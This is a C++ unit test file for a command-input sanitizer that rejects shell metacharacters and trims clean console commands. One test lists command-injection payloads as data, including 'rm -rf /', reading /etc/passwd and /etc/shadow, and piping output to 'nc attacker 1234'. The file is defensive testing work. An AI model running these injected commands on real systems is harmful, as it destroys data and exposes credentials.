/**
 * @file test_input_sanitizer.cpp
 * @brief InputSanitizer unit tests
 */

#include <gtest/gtest.h>
#include "InputSanitizer.h"
#include "ErrorCodes.h"

#include <string>
#include <vector>

using namespace ConsoleGate;

// ============================================================================
// Empty input
// ============================================================================

TEST(InputSanitizerTest, RejectsEmptyString) {
    auto result = InputSanitizer::sanitize("");
    ASSERT_TRUE(result.isError());
    EXPECT_EQ(result.error().message, "empty command");
    EXPECT_EQ(result.error().code, Core::toInt(Core::ErrorCode::EMPTY_COMMAND));
}

TEST(InputSanitizerTest, RejectsWhitespaceOnly) {
    for (const std::string raw : {" ", "   ", "\t", " \t \r\n ", "\v\f"}) {
        auto result = InputSanitizer::sanitize(raw);
        ASSERT_TRUE(result.isError()) << "input: '" << raw << "'";
        EXPECT_EQ(result.error().message, "empty command");
    }
}

// ============================================================================
// Metacharacters
// ============================================================================

TEST(InputSanitizerTest, RejectsEveryMetacharacter) {
    for (char c : InputSanitizer::dangerousCharacters()) {
        std::string raw = "email list";
        raw.insert(raw.begin() + 5, c);
        auto result = InputSanitizer::sanitize(raw);
        ASSERT_TRUE(result.isError()) << "char code " << static_cast<int>(c);
        EXPECT_EQ(result.error().message, "contains dangerous characters");
        EXPECT_EQ(result.error().code, Core::toInt(Core::ErrorCode::DANGEROUS_CHARACTERS));
    }
}

TEST(InputSanitizerTest, RejectsInjectionAttempts) {
    const std::vector<std::string> attempts = {
        "email list; rm -rf /",
        "email list && cat /etc/passwd",
        "email list | nc attacker 1234",
        "email list `whoami`",
        "email list $(id)",
        "email list > /tmp/out",
        "email list < /etc/shadow",
        "version\\",
        "email list\nrm -rf /",
    };
    for (const auto& raw : attempts) {
        auto result = InputSanitizer::sanitize(raw);
        ASSERT_TRUE(result.isError()) << raw;
        EXPECT_EQ(result.error().message, "contains dangerous characters") << raw;
    }
}

TEST(InputSanitizerTest, RejectsEmbeddedNul) {
    std::string raw("version", 7);
    raw.push_back('\0');
    raw += "x";
    auto result = InputSanitizer::sanitize(raw);
    ASSERT_TRUE(result.isError());
    EXPECT_EQ(result.error().message, "contains dangerous characters");
}

TEST(InputSanitizerTest, TrailingNewlineIsTrimmedNotRejected) {
    auto result = InputSanitizer::sanitize("version\n");
    ASSERT_TRUE(result.isOk());
    EXPECT_EQ(result.value(), "version");
}

// ============================================================================
// Clean input
// ============================================================================

TEST(InputSanitizerTest, TrimsSurroundingWhitespace) {
    auto result = InputSanitizer::sanitize("  \temail list --limit 10 \r\n");
    ASSERT_TRUE(result.isOk());
    EXPECT_EQ(result.value(), "email list --limit 10");
}

TEST(InputSanitizerTest, KeepsInteriorWhitespace) {
    auto result = InputSanitizer::sanitize("email   list");
    ASSERT_TRUE(result.isOk());
    EXPECT_EQ(result.value(), "email   list");
}

TEST(InputSanitizerTest, AllowsCommonFlagCharacters) {
    auto result = InputSanitizer::sanitize("email search --query=\"hello world\" --from a@b.com --limit 5");
    ASSERT_TRUE(result.isOk());
}

TEST(InputSanitizerTest, IsIdempotent) {
    const std::vector<std::string> inputs = {
        "version", "  email list  ", "\tcalendar events list --days 7\n", "x y z"
    };
    for (const auto& raw : inputs) {
        auto once = InputSanitizer::sanitize(raw);
        ASSERT_TRUE(once.isOk()) << raw;
        auto twice = InputSanitizer::sanitize(once.value());
        ASSERT_TRUE(twice.isOk());
        EXPECT_EQ(once.value(), twice.value());
    }
}

TEST(InputSanitizerTest, DoesNotConsultAllowlist) {
    auto result = InputSanitizer::sanitize("rm -rf /tmp/x");
    ASSERT_TRUE(result.isOk());
    EXPECT_EQ(result.value(), "rm -rf /tmp/x");
}
